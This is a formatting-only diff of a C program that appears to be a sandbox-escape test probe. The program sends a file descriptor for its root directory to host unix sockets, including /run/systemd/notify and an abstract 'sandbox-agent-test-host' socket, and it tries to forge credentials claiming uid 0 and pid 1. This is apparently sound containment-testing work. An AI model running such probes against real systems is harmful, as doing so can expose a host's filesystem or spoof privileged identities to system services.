@@ -1,6 +1,6 @@
 /* class: network
- * what: sends a descriptor of its root directory to a host process over unix datagrams, and forges credentials (uid 0, pid 1) on its own sockets
- * outside: host_listener_untouched
+ * what: sends a descriptor of its root directory to a host process over unix datagrams, and forges credentials (uid 0,
+ * pid 1) on its own sockets outside: host_listener_untouched
  */
 #include "attack.h"
 #include <sys/socket.h>
@@ -14,8 +14,13 @@ struct creds {
 static long send_with(int s, void *data, size_t len, int type, struct sockaddr_un *to, socklen_t to_len)
 {
     char control[64] = "", byte = 'x';
-    struct iovec iov = {&byte, 1};
-    struct msghdr m = {.msg_name = to, .msg_namelen = to_len, .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = CMSG_SPACE(len)};
+    struct iovec iov = { &byte, 1 };
+    struct msghdr m = { .msg_name = to,
+                        .msg_namelen = to_len,
+                        .msg_iov = &iov,
+                        .msg_iovlen = 1,
+                        .msg_control = control,
+                        .msg_controllen = CMSG_SPACE(len) };
     struct cmsghdr *c = CMSG_FIRSTHDR(&m);
     c->cmsg_level = SOL_SOCKET;
     c->cmsg_type = type;
@@ -27,9 +32,10 @@ static long send_with(int s, void *data, size_t len, int type, struct sockaddr_u
 int main(void)
 {
     int root = open("/", O_PATH | O_DIRECTORY);
-    const char *names[] = {param("abstract_name", "sandbox-agent-test-host"), param("host_socket", "/run/systemd/notify")};
+    const char *names[] = { param("abstract_name", "sandbox-agent-test-host"),
+                            param("host_socket", "/run/systemd/notify") };
     for (int n = 0; n < 2; n++) {
-        struct sockaddr_un a = {.sun_family = AF_UNIX};
+        struct sockaddr_un a = { .sun_family = AF_UNIX };
         snprintf(a.sun_path + (n == 0), sizeof a.sun_path - 1, "%s-dgram", names[n]);
         socklen_t len = (socklen_t)(sizeof a.sun_family + (n == 0) + strlen(a.sun_path + (n == 0)));
         int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
@@ -42,7 +48,10 @@ int main(void)
     }
     int sv[2];
     if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) == 0) {
-        struct creds forged[] = {{1, getuid(), getgid()}, {getpid(), 0, 0}, {getpid(), getuid() + 1, getgid()}, {getppid() ? getppid() : 1, 0, 0}};
+        struct creds forged[] = { { 1, getuid(), getgid() },
+                                  { getpid(), 0, 0 },
+                                  { getpid(), getuid() + 1, getgid() },
+                                  { getppid() ? getppid() : 1, 0, 0 } };
         for (int i = 0; i < 4; i++) {
             if (forged[i].uid == getuid() && forged[i].pid == getpid())
                 continue;
